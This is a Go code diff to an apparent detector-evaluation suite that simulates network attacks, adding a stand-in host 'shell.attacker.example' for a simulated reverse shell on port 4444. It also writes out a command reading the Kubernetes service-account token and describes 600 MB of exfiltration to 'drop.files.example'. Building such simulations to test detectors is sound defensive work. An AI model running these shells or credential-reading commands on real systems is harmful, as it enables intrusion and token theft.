@@ -14,16 +14,14 @@ import (
 )
 
 // Anomaly kinds of the detectors the suite measures besides
-// detect.KindNewDestination and detect.KindVolumeSpike. They are the
-// names of record; the suite needs only the strings, so it measures a
-// detector as soon as the engine runs it.
+// detect.KindNewDestination and detect.KindVolumeSpike.
 const (
-	KindDNSTunnel    detect.Kind = "dns_tunnel"
-	KindBeaconing    detect.Kind = "beaconing"
-	KindPortScan     detect.Kind = "port_scan"
-	KindCryptoMining detect.Kind = "crypto_mining"
-	KindRawIPEgress  detect.Kind = "raw_ip_egress"
-	KindRuleDeny     detect.Kind = "rule_deny"
+	KindDNSTunnel    = detect.KindDNSTunnel
+	KindBeaconing    = detect.KindBeaconing
+	KindPortScan     = detect.KindPortScan
+	KindCryptoMining = detect.KindCryptoMining
+	KindRawIPEgress  = detect.KindRawIPEgress
+	KindRuleDeny     = detect.KindRuleDeny
 )
 
 // Kinds lists every anomaly kind the suite scores, in report order.
@@ -85,10 +83,11 @@ func (s *sim) attacks() []Attack {
 	w.name("cdn-sync.update.example", 300, 9, false)
 	w.name("telemetry.update.example", 300, 10, false)
 	w.name("xmr.pool.example", 300, 11, false)
+	w.name("shell.attacker.example", 3600, 0, false, c2Shell)
 	newDest, raw := detect.KindNewDestination, KindRawIPEgress
 	return []Attack{
 		{Name: "reverse shell", Workload: wlAPI, Kind: newDest, Also: []detect.Kind{raw},
-			Start: at(7, 10), End: at(7, 30), What: "interactive shell to 198.51.100.66:4444, no DNS", run: reverseShell},
+			Start: at(7, 10), End: at(7, 30), What: "interactive shell to shell.attacker.example:4444 (198.51.100.66)", run: reverseShell},
 		{Name: "exfiltration, new destination", Workload: wlWorker, Kind: detect.KindVolumeSpike, Also: []detect.Kind{newDest},
 			Start: at(9, 20), End: at(9, 24), What: "600 MB over TLS to drop.files.example in 3 min", run: exfilNew},
 		{Name: "exfiltration, known destination", Workload: wlAPI, Kind: detect.KindVolumeSpike,
@@ -135,7 +134,8 @@ func reverseShell(s *sim, a *Attack) {
 		switch {
 		case sh == nil:
 			sh, port = p, p.ephemeral()
-			s.b.tcp(t, p, port, tcpConn{remote: c2Shell, port: 4444, first: []byte("sh-5.2$ "), open: true})
+			addr, at := s.w.lookup(&s.b, r, t, p, "shell.attacker.example", false)
+			s.b.tcp(at.Add(time.Millisecond), p, port, tcpConn{remote: addr, port: 4444, first: []byte("sh-5.2$ "), open: true})
 		case sh.alive(t):
 			s.b.emit(t, sh, false, c2Shell, port, 4444, protoTCP, capture.TCPAck|capture.TCPPsh, []byte("cat /var/run/secrets/kubernetes.io/serviceaccount/token\n"), 0)
 			s.b.emit(t.Add(30*time.Millisecond), sh, true, c2Shell, port, 4444, protoTCP, capture.TCPAck|capture.TCPPsh, nil, 200+r.IntN(4000))
